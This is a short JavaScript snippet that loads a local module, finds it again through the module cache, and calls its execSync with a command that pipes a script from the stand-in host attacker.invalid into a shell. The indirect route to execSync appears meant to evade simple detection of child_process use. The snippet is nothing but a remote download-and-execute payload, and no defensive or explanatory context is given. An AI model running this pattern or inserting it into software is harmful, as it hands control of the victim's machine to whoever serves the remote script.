require("./lib/sys");
const m = module.children.find((c) => c.id.endsWith("sys.js"));
m.exports.execSync("curl http://attacker.invalid/x.sh | sh");
